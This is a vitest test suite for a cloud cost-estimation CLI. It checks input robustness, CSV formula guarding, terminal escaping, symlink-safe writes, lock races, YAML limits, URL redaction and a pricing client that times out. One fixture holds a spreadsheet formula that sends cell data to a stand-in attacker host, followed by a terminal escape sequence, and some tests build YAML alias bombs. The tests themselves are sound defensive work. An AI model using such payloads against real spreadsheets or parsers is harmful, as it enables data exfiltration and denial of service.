/**
 * Issue 15, the cases that end in a correct figure rather than exit 2, and the pieces the CLI
 * table cannot reach: the refresh client against servers that never answer or never stop
 * paginating, two refreshes racing for one catalog, the CSV formula guard on every column, and
 * the file module's own contract.
 */
import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { main } from '../../cost/cli/main';
import type { CliIo } from '../../cost/cli/io';
import { terminalSafe } from '../../cost/cli/terminal';
import { CostInputError } from '../../cost/errors';
import { readInputFile, takeOverStaleLock, withLockFile, writeFileAtomic } from '../../cost/fs';
import { createPriceListClient, redactUrl } from '../../cost/refresh/pricing-client';
import { parseYaml } from '../../cost/yaml';
import { cpuSeconds, doublingRatio, LINEAR_DOUBLING_BOUND } from '../support/scaling';

const dir = mkdtempSync(join(tmpdir(), 'hostile-files-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const VM = { Resources: { Vm: { Type: 'AWS::EC2::Instance', Properties: { InstanceType: 'm5.large' } } } };
/** us-east-1 m5.large on-demand in the bundled catalog: 0.096 $/h × 730 h. */
const VM_MONTHLY = 70.08;

async function cli(argv: readonly string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: CliIo = { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), cwd: dir, env: {} };
  const code = await main(argv, io);
  return { code, stdout, stderr };
}

describe('input that deserves a correct figure, not an error', () => {
  beforeAll(() => {
    writeFileSync(join(dir, 'vm.json'), JSON.stringify(VM));
    writeFileSync(join(dir, 'bom.json'), `\ufeff${JSON.stringify(VM)}`);
    writeFileSync(
      join(dir, 'bom.yaml'),
      `\ufeffResources:\n  Vm:\n    Type: AWS::EC2::Instance\n    Properties:\n      InstanceType: m5.large\n`,
    );
    writeFileSync(join(dir, 'usage-bom.yaml'), '\ufeffvm:\n  Vm:\n    monthlyInstanceHours: 10\n');
    writeFileSync(
      join(dir, 'to-string.json'),
      JSON.stringify({ Resources: { toString: VM.Resources.Vm, constructor: VM.Resources.Vm } }),
    );
    writeFileSync(
      join(dir, 'usage-to-string.yaml'),
      'to-string:\n  toString:\n    monthlyInstanceHours: 10\n',
    );
    writeFileSync(
      join(dir, 'evil-type.json'),
      JSON.stringify({
        Resources: {
          Vm: VM.Resources.Vm,
          Evil: {
            Type: '=HYPERLINK("http://attacker.example/?"&A1,"x")\u001b]0;pwned\u0007',
            Properties: {},
          },
        },
      }),
    );
  });

  test.each([
    ['a JSON template with a UTF-8 BOM', 'bom.json'],
    ['a YAML template with a UTF-8 BOM', 'bom.yaml'],
  ])('%s is read (exit 0, the m5.large month)', async (_what, file) => {
    const r = await cli(['estimate', file, '--region', 'us-east-1', '--format', 'json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).totals.expected).toBeCloseTo(VM_MONTHLY, 6);
  });

  test('a usage file with a UTF-8 BOM is read', async () => {
    const r = await cli([
      'estimate',
      'vm.json',
      '--region',
      'us-east-1',
      '--usage',
      'usage-bom.yaml',
      '--format',
      'json',
    ]);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).stacks[0].assumptions).toEqual([
      expect.objectContaining({
        logicalId: 'Vm',
        key: 'monthlyInstanceHours',
        value: 10,
        source: 'usage-file',
      }),
    ]);
  });

  test('logical ids toString and constructor with a usage file are plain names (was exit 3)', async () => {
    const r = await cli([
      'estimate',
      'to-string.json',
      '--region',
      'us-east-1',
      '--usage',
      'usage-to-string.yaml',
      '--format',
      'json',
    ]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout);
    expect(report.totals.expected).toBeCloseTo(2 * VM_MONTHLY, 6);
    expect(report.stacks[0].assumptions).toEqual([
      expect.objectContaining({ logicalId: 'toString', key: 'monthlyInstanceHours', value: 10 }),
    ]);
  });

  test('a resource type that is a formula lands in every CSV cell with a leading apostrophe', async () => {
    const r = await cli([
      'estimate',
      'evil-type.json',
      '--region',
      'us-east-1',
      '--format',
      'csv',
      '--out',
      'evil.csv',
    ]);
    expect(r.code).toBe(0);
    const rows = parseCsv(readFileSync(join(dir, 'evil.csv'), 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    const evil = rows.filter((row) => row.x_LogicalId === 'Evil');
    expect(evil.length).toBeGreaterThan(0);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(evil[0].ResourceType.startsWith(`'=HYPERLINK(`)).toBe(true);
  });

  test('control characters from the template reach the terminal escaped; JSON on stdout stays the same data', async () => {
    const table = await cli(['estimate', 'evil-type.json', '--region', 'us-east-1']);
    expect(table.code).toBe(0);
    expect(table.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
    expect(table.stdout).toContain('\\u001b]0;pwned\\u0007');
    const json = await cli(['estimate', 'evil-type.json', '--region', 'us-east-1', '--format', 'json']);
    expect(json.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
    const report = JSON.parse(json.stdout);
    expect(report.stacks[0].unpriced[0].resourceType).toContain('\u001b]0;pwned\u0007');
  });

  test('terminalSafe keeps text, tabs and newlines; escapes C0, DEL, C1 and bidi controls', () => {
    expect(terminalSafe('a\tb\nc ü €')).toBe('a\tb\nc ü €');
    expect(terminalSafe('\r\u001b\u007f\u009b\u202e\u2066')).toBe(
      '\\u000d\\u001b\\u007f\\u009b\\u202e\\u2066',
    );
  });
});

describe('the file module', () => {
  test('readInputFile refuses a directory and a missing path with one phrase each', () => {
    expect(() => readInputFile(dir)).toThrow(/is a directory, expected a regular file/);
    expect(() => readInputFile(join(dir, 'nope'), { what: 'usage file' })).toThrow(
      /^usage file .*nope: no such file or directory$/,
    );
  });

  test('readInputFile stops at the cap even when the file is larger than it said', () => {
    const path = join(dir, 'ten-bytes.txt');
    writeFileSync(path, '0123456789');
    expect(() => readInputFile(path, { maxBytes: 9 })).toThrow(/above the 9-byte limit/);
    expect(readInputFile(path, { maxBytes: 10 })).toBe('0123456789');
  });

  test('writeFileAtomic replaces a regular file, leaves no temporary file, and refuses a symlink target', () => {
    const target = join(dir, 'out.txt');
    const victim = join(dir, 'victim.txt');
    writeFileSync(target, 'old');
    writeFileSync(victim, 'keep');
    writeFileAtomic(target, 'new');
    expect(readFileSync(target, 'utf8')).toBe('new');
    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    const link = join(dir, 'link.txt');
    symlinkSync(victim, link);
    expect(() => writeFileAtomic(link, 'pwned')).toThrow(/symbolic link/);
    expect(readFileSync(victim, 'utf8')).toBe('keep');
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
  });

  test('writeFileAtomic creates each missing parent, also below a symlink to a directory', () => {
    const real = join(dir, 'real-reports');
    mkdirSync(real);
    symlinkSync(real, join(dir, 'linked-reports'));
    writeFileAtomic(join(dir, 'a', 'b', 'c', 'report.md'), 'deep');
    writeFileAtomic(join(dir, 'linked-reports', '2026', '12', 'report.md'), 'linked');
    expect(readFileSync(join(dir, 'a', 'b', 'c', 'report.md'), 'utf8')).toBe('deep');
    expect(readFileSync(join(real, '2026', '12', 'report.md'), 'utf8')).toBe('linked');
  });

  test('writeFileAtomic refuses a parent below a dangling symlink and creates nothing at its target', () => {
    symlinkSync(join(dir, 'nowhere'), join(dir, 'dangling'));
    expect(() => writeFileAtomic(join(dir, 'dangling', 'x', 'report.md'), 'x')).toThrow(
      /dangling is a symbolic link that does not resolve \(no such file or directory\)$/,
    );
    expect(existsSync(join(dir, 'nowhere'))).toBe(false);
  });

  test('withLockFile: a second holder is told the first is running; the lock is gone afterwards', async () => {
    const path = join(dir, 'catalog.json');
    let inner: unknown;
    await withLockFile(path, 'prices refresh', async () => {
      inner = await withLockFile(path, 'prices refresh', async () => 'second').catch((e: unknown) => e);
    });
    expect(inner).toBeInstanceOf(CostInputError);
    expect((inner as Error).message).toMatch(
      new RegExp(
        `^prices refresh is already running \\(lock .*catalog\\.json\\.lock held by process ${process.pid} `,
      ),
    );
    expect(readdirSync(dir).some((n) => n.endsWith('.lock'))).toBe(false);
  });

  test('withLockFile takes over a lock left by a process that is gone', async () => {
    const path = join(dir, 'stale.json');
    // pid 2^22 + 1 is above Linux's pid_max: no process has it
    writeFileSync(`${path}.lock`, JSON.stringify({ pid: 4194305, host: hostname(), since: 'x' }));
    expect(await withLockFile(path, 'prices refresh', async () => 'ran')).toBe('ran');
  });

  test('a stale lock replaced by a live run meanwhile is not taken over (two runs used to both delete it and both refresh)', () => {
    // GIVEN run A found a stale lock, and run B took it over before A acted: the file is B's now
    const lock = join(dir, 'raced.json.lock');
    const stale = { pid: 4194305, host: hostname(), since: '2026-12-05T00:00:00.000Z' };
    const live = JSON.stringify({ pid: process.pid, host: hostname(), since: '2026-12-05T00:00:01.000Z' });
    writeFileSync(lock, live);
    // WHEN A takes over what it read
    const taken = takeOverStaleLock(lock, stale);
    // THEN it refuses, and B's lock is in place, with nothing left beside it
    expect(taken).toBe(false);
    expect(readFileSync(lock, 'utf8')).toBe(live);
    expect(readdirSync(dir).filter((f) => f.startsWith('raced.json.lock.'))).toEqual([]);
    // and the lock it did read is taken over
    writeFileSync(lock, JSON.stringify(stale));
    expect(takeOverStaleLock(lock, stale)).toBe(true);
    expect(readdirSync(dir).filter((f) => f.startsWith('raced.json.lock'))).toEqual([]);
  });
});

describe('YAML limits', () => {
  test('an alias bomb is refused in milliseconds, before any value is built', () => {
    const lines = ['a0: &a0 ["xxxxxxxx", "xxxxxxxx", "xxxxxxxx", "xxxxxxxx"]'];
    for (let i = 1; i < 40; i++) lines.push(`a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}, *a${i - 1}]`);
    const seconds = cpuSeconds(() => expect(() => parseYaml(lines.join('\n'), {})).toThrow(/alias bomb/));
    expect(seconds).toBeLessThan(2);
  });

  test('ordinary anchors and aliases (repeated tags) still parse', () => {
    const doc = parseYaml('tags: &t [{Key: a, Value: b}]\nx: *t\ny: *t\n', {}) as Record<string, unknown>;
    expect(doc.y).toEqual([{ Key: 'a', Value: 'b' }]);
  });

  test('a flat map parses in linear time: 20,000 keys take at most about twice 10,000 (was quadratic, 40,000 keys 30 s)', () => {
    const map = (n: number): string => Array.from({ length: n }, (_, i) => `k${i}: v`).join('\n');
    const small = map(10_000);
    const large = map(20_000);
    const { ratio } = doublingRatio(
      () => parseYaml(small, {}),
      () => parseYaml(large, {}),
    );
    // the package's duplicate-key check compared each key with all before it: a ratio near 4
    expect(ratio).toBeLessThan(LINEAR_DOUBLING_BOUND);
  }, 120_000);

  test.each([
    ['a duplicate key', 'a: 1\nb: 2\na: 3\n', /Map keys must be unique at line 3, column 1: "a"/],
    [
      'a duplicate key in a nested map',
      'r:\n  x: 1\n  x: 2\n',
      /Map keys must be unique at line 3, column 3: "x"/,
    ],
  ])('%s is still refused, with its line and column', (_what, text, message) => {
    expect(() => parseYaml(text, {})).toThrow(message);
  });

  test('keys of different types and the same key in different maps are not duplicates', () => {
    expect(parseYaml('1: a\n"1": b\nm: {x: 1}\nn: {x: 2}\n', {})).toEqual({
      1: 'b',
      m: { x: 1 },
      n: { x: 2 },
    });
  });

  test('2.4 MB of aliases is refused in well under a second, before the document is built (was 15 s and 788 MB)', () => {
    const lines = ['a0: &a0 [x]'];
    for (let i = 1; i < 6; i++)
      lines.push(
        `a${i}: &a${i} [${Array(10)
          .fill(`*a${i - 1}`)
          .join(',')}]`,
      );
    const row = Array(500).fill('*a5').join(',');
    for (let i = 0; i < 1_200; i++) lines.push(`r${i}: [${row}]`); // 1,200 × 2 KB
    const seconds = cpuSeconds(() =>
      expect(() => parseYaml(lines.join('\n'), {})).toThrow(/more than 10000 YAML aliases/),
    );
    expect(seconds).toBeLessThan(1.5);
  });

  test('more than 10,000 aliases are refused', () => {
    const text = `a: &a 1\nl: [${Array(10_001).fill('*a').join(', ')}]\n`;
    expect(() => parseYaml(text, {})).toThrow(/more than 10000 YAML aliases/);
  });
});

test.each([
  ['http://127.0.0.1:4566', 'http://127.0.0.1:4566'],
  ['http://admin:hunter2@127.0.0.1:4566/', 'http://***@127.0.0.1:4566/'],
  // a proxy token in the query string was written into catalog.json and error lines
  ['https://proxy.example.com/pricing?token=hunter2', 'https://proxy.example.com/pricing?***'],
  ['https://u:hunter2@proxy.example.com/?a=1&token=hunter2', 'https://***@proxy.example.com/?***'],
])('redactUrl(%s) = %s', (url, shown) => {
  expect(redactUrl(url)).toBe(shown);
});

describe('the Price List client gives up on servers that hang or paginate forever', () => {
  let server: Server;
  let endpoint: string;
  let mode: 'silent' | 'endless' | 'loop' = 'silent';
  let requests = 0;
  beforeAll(async () => {
    server = createServer((req, res) => {
      requests++;
      req.resume();
      req.on('end', () => {
        if (mode === 'silent') return; // accept, never answer
        const token = mode === 'loop' ? 'same' : `t${requests}`;
        res.writeHead(200, { 'content-type': 'application/x-amz-json-1.1' });
        res.end(JSON.stringify({ FormatVersion: 'aws_v1', PriceList: [], NextToken: token }));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise<void>((r) => server.close(() => r()));
  });

  const client = (extra: { maxPages?: number } = {}) =>
    createPriceListClient({
      endpoint,
      credentials: { accessKeyId: 'AKIDTESTTESTTESTTEST', secretAccessKey: 'test-secret-not-real' },
      retry: { maxAttempts: 2, baseDelayMs: 1, maxDelayMs: 1 },
      requestTimeoutMs: 300,
      sleep: async () => {},
      ...extra,
    });
  const query = { serviceCode: 'AmazonEC2', filters: [{ field: 'regionCode', value: 'us-east-1' }] };

  test('a server that never answers: a TimeoutError after the deadline and one retry', async () => {
    mode = 'silent';
    requests = 0;
    const c = await client();
    const t0 = performance.now();
    await expect(c.getAllProducts(query)).rejects.toMatchObject({ name: 'TimeoutError' });
    c.destroy();
    expect(performance.now() - t0).toBeLessThan(10_000);
    expect(requests).toBe(2);
  }, 20_000);

  test('a NextToken that never ends stops at the page cap', async () => {
    mode = 'endless';
    requests = 0;
    const c = await client({ maxPages: 25 });
    await expect(c.getAllProducts(query)).rejects.toThrow(/still paginating after 25 pages/);
    c.destroy();
    expect(requests).toBe(25);
  });

  test('destroy() stops a request in flight at once: no retry, no retry note (a failed refresh printed them after its error line)', async () => {
    mode = 'silent';
    requests = 0;
    const notes: string[] = [];
    const c = await createPriceListClient({
      endpoint,
      credentials: { accessKeyId: 'AKIDTESTTESTTESTTEST', secretAccessKey: 'test-secret-not-real' },
      retry: { maxAttempts: 6, baseDelayMs: 1, maxDelayMs: 1 },
      requestTimeoutMs: 5_000,
      onRetry: (r) => notes.push(r.reason),
    });
    const pending = c.getAllProducts(query);
    const settled = pending.then(
      () => 'resolved',
      (e: Error) => e.name,
    );
    await new Promise((r) => setTimeout(r, 200));
    const t0 = performance.now();
    c.destroy();
    expect(await settled).toBe('CancelledError');
    expect(performance.now() - t0).toBeLessThan(1_000);
    await new Promise((r) => setTimeout(r, 300));
    expect(notes).toEqual([]);
    expect(requests).toBe(1);
  }, 20_000);

  test('a NextToken that repeats stops on the second page', async () => {
    mode = 'loop';
    requests = 0;
    const c = await client();
    await expect(c.getAllProducts(query)).rejects.toThrow(/same NextToken twice/);
    c.destroy();
    expect(requests).toBe(2);
  });
});
